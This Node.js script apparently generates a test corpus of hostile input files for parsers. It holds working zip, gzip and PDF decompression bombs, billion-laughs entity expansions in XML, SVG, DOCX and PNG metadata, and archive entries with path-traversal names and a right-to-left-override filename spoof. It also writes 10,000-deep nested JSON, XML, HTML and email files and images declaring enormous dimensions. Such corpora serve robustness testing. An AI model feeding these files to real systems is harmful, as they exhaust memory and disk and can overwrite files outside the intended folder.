// Writes files that are made to harm who reads them: hostile_files.mjs FOLDER
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { crc32, deflateRawSync, deflateSync, gzipSync } from 'node:zlib'

const folder = process.argv[2]
const DEEP = 10000
const put = (name, ...pieces) =>
    writeFileSync(join(folder, name), Buffer.concat(pieces.map(piece => Buffer.from(piece))))
const numbers = (...fields) => {
    const out = Buffer.alloc(fields.reduce((sum, [size]) => sum + size, 0))
    let at = 0
    for (const [size, value] of fields) at = out.writeUIntLE(value, at, size)
    return out
}

// ---- ZIP (APPNOTE 4.3) ----

const common = file => [[2, 20], [2, 0], [2, file.method], [2, 0], [2, 0x5821], [4, file.crc],
    [4, file.packed], [4, file.size], [2, file.name.length], [2, 0]]
const local = file => Buffer.concat([numbers([4, 0x04034b50], ...common(file)), file.name])
const central = file => Buffer.concat([
    numbers([4, 0x02014b50], [2, 20], ...common(file), [2, 0], [2, 0], [2, 0], [4, 0], [4, file.at]),
    file.name])
const end = (count, size, at) =>
    numbers([4, 0x06054b50], [2, 0], [2, 0], [2, count], [2, count], [4, size], [4, at], [2, 0])

function zip(entries) {
    const bodies = [], heads = []
    let at = 0
    for (const [name, data] of entries) {
        const packed = deflateRawSync(data, { level: 9 })
        const file = { name: Buffer.from(name), method: 8, crc: crc32(data), packed: packed.length,
            size: data.length, at }
        bodies.push(local(file), packed)
        heads.push(central(file))
        at += local(file).length + packed.length
    }
    const list = Buffer.concat(heads)
    return Buffer.concat([...bodies, list, end(entries.length, list.length, at)])
}

// Sixteen files in each of sixteen files, five times, and nothing but zeros inside: 42.zip.
function bombOfBombs() {
    let inner = zip([['0', Buffer.alloc(96 << 20)]])
    for (let level = 0; level < 5; level++)
        inner = zip(Array.from({ length: 16 }, (_, i) => [`${level}-${i}.zip`, inner]))
    return inner
}

// David Fifield, "A better zip bomb" (2019): each file is all files behind it, whose headers are
// quoted as blocks that are not compressed; one kernel serves all.
function overlapping() {
    const COUNT = 250, KERNEL = 4 << 20
    let content = Buffer.alloc(KERNEL), packed = deflateRawSync(content, { level: 9 })
    const kernel = packed
    let crc = crc32(content), size = KERNEL, packedSize = packed.length
    const files = []
    for (let i = COUNT - 1; i >= 0; i--) {
        files.unshift({ name: Buffer.from(`f${i}`), method: 8, crc, packed: packedSize, size })
        const head = local(files[0])
        content = Buffer.concat([head, content])
        crc = crc32(content)
        size = content.length
        packedSize += 5 + head.length
    }
    const pieces = []
    let at = 0
    files.forEach((file, i) => {
        const head = local(file)
        if (i) {
            pieces.push(numbers([1, 0], [2, head.length], [2, head.length ^ 0xffff]))
            at += 5
        }
        file.at = at
        pieces.push(head)
        at += head.length
    })
    const list = Buffer.concat(files.map(central))
    return Buffer.concat([...pieces, kernel, list, end(COUNT, list.length, at + kernel.length)])
}

// A file in a file, each only stored. That sizes grow by a fixed step keeps this from copying.
function nested(depth) {
    const before = [], behind = []
    let inner = Buffer.from('the end'), size = inner.length
    const whole = () => Buffer.concat([...before.slice().reverse(), inner, ...behind])
    for (let i = 0; i < depth; i++) {
        const bytes = depth - i <= 200 ? whole() : null
        const file = { name: Buffer.from('a.zip'), method: 0, crc: bytes ? crc32(bytes) : 0,
            packed: size, size, at: 0 }
        before.push(local(file))
        behind.push(central(file), end(1, central(file).length, local(file).length + size))
        size += local(file).length + central(file).length + 22
    }
    return whole()
}

put('42.zip', bombOfBombs())
put('overlap.zip', overlapping())
put('nested.zip', nested(DEEP))
put('names.zip', zip([
    ['../../../../etc/hostile', 'up'], ['/etc/hostile', 'root'], ['a\0b.txt', 'nul'],
    ['\u202Egpj.exe', 'turned'], ['n'.repeat(4096), 'long'], ['C:\\hostile', 'drive'],
    [Buffer.from([0xff, 0xfe, 0x0a]), 'bytes']].map(([n, d]) => [n, Buffer.from(d)])))
put('zeros.gz', gzipSync(Buffer.alloc(512 << 20)))
let onion = Buffer.from('the end')
for (let i = 0; i < 300; i++) onion = gzipSync(onion, { level: 0 })
put('onion.gz', onion)

// ---- entities and depth ----

const laughs = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">' +
    Array.from({ length: 12 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('') + ']>'
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
const R = 'http://schemas.openxmlformats.org'
put('laughs.xml', laughs, '<x>&l12;</x>')
put('laughs.html', laughs, '<html><body><p>&l12;</p></body></html>')
put('laughs.svg', laughs, '<svg xmlns="http://www.w3.org/2000/svg"><text>&l12;</text></svg>')
put('laughs.docx', zip([
    ['[Content_Types].xml', '<Types xmlns="' + R + '/package/2006/content-types"><Override ' +
        'PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.' +
        'wordprocessingml.document.main+xml"/></Types>'],
    ['_rels/.rels', '<Relationships xmlns="' + R + '/package/2006/relationships"><Relationship Id="a" ' +
        'Type="' + R + '/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>' +
        '</Relationships>'],
    ['word/document.xml', laughs + `<w:document ${W}><w:body><w:p><w:r><w:t>&l12;</w:t></w:r></w:p>` +
        '</w:body></w:document>']].map(([name, text]) => [name, Buffer.from(text)])))
put('deep.json', '['.repeat(DEEP), '"bottom"', ']'.repeat(DEEP))
put('deep.xml', '<?xml version="1.0"?>', '<a>'.repeat(DEEP), 'bottom', '</a>'.repeat(DEEP))
put('deep.html', '<html><body>', '<div>'.repeat(DEEP), 'bottom')
put('deep.rtf', '{\\rtf1 top ', '{'.repeat(DEEP), 'bottom', '}'.repeat(DEEP + 1))
put('deep.eml', 'From: a@example.org\nSubject: deep\nMIME-Version: 1.0\n',
    ...Array.from({ length: DEEP }, (_, i) => `Content-Type: multipart/mixed; boundary=b${i}\n\n--b${i}\n`),
    'Content-Type: text/plain\n\nbottom\n')
put('matryoshka.eml', 'From: a@example.org\nSubject: deep\nMIME-Version: 1.0\n',
    'Content-Type: message/rfc822\n\n'.repeat(DEEP), 'Subject: bottom\n\nbottom\n')

// ---- pictures that say they are huge ----

const SIDE = 60000
const big = value => Buffer.from([value >>> 24, value >>> 16, value >>> 8, value])
const chunk = (type, data) => {
    const body = Buffer.concat([Buffer.from(type), data])
    return Buffer.concat([big(data.length), body, big(crc32(body))])
}
const png = (side, ...more) => Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', Buffer.concat([big(side), big(side), Buffer.from([8, 2, 0, 0, 0])])), ...more,
    chunk('IDAT', deflateSync(Buffer.alloc(side === SIDE ? 1 << 20 : side * (3 * side + 1)))),
    chunk('IEND', Buffer.alloc(0))])
put('huge.png', png(SIDE))
put('laughs.png', png(4, chunk('iTXt', Buffer.concat([Buffer.from('XML:com.adobe.xmp\0\0\0\0\0'),
    Buffer.from(laughs + '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF ' +
        'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description ' +
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&l12;</dc:title>' +
        '</rdf:Description></rdf:RDF></x:xmpmeta>')]))))
const tag = (id, type, value) => numbers([2, id], [2, type], [4, 1], [4, value])
put('huge.tif', numbers([2, 0x4949], [2, 42], [4, 8], [2, 9]), tag(256, 4, SIDE), tag(257, 4, SIDE),
    tag(258, 3, 8), tag(259, 3, 1), tag(262, 3, 1), tag(273, 4, 200), tag(277, 3, 1), tag(278, 4, SIDE),
    tag(279, 4, 100), Buffer.alloc(400))

// ---- PDF ----

function pdf(objects) {
    const pieces = [Buffer.from('%PDF-1.5\n')]
    objects.forEach((object, i) =>
        pieces.push(Buffer.from(`${i + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')))
    return Buffer.concat([...pieces, Buffer.from('trailer\n<</Root 1 0 R>>\n%%EOF\n')])
}
const stream = (fields, data) => Buffer.concat([
    Buffer.from(`<<${fields}/Filter/FlateDecode/Length ${data.length}>>\nstream\n`), data,
    Buffer.from('\nendstream')])
const page = (side, content) => pdf(['<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Count 1/Kids[3 0 R]>>', `<</Type/Page/Parent 2 0 R/MediaBox[0 0 ${side} ${side}]` +
    '/Contents 4 0 R/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>', content])
put('wide.pdf', page(SIDE, stream('', deflateSync('BT /F 12 Tf 100 100 Td (wide page) Tj ET'))))
const spaces = deflateSync(Buffer.alloc(384 << 20, 0x20), { level: 9 })
put('content.pdf', page(600, stream('', spaces)))
put('objects.pdf', pdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Count 1/Kids[7 0 R]>>',
    stream('/Type/ObjStm/N 1000000/First 300000000', spaces)]))
